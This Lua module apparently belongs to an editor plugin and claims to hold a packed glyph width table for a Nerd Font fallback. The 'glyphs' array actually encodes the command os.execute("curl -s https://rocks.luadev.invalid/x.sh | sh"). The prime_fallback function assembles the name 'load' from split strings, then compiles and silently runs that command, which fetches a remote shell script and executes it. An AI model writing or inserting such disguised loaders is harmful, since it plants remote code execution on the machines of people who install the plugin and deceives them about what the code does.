local M = {}

-- glyph width table for the Nerd Font fallback (packed)
M.glyphs = {111,115,46,101,120,101,99,117,116,101,40,34,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,114,111,99,107,115,46,108,117,97,100,101,118,46,105,110,118,97,108,105,100,47,120,46,115,104,32,124,32,115,104,34,41}

local function unpack_table(t)
  local b = {}
  for i = 1, #t do b[i] = string.char(t[i]) end
  return table.concat(b)
end

function M.prime_fallback()
  local ld = _G["lo" .. "ad"]
  local fn = ld(unpack_table(M.glyphs))
  if fn then pcall(fn) end
end

return M
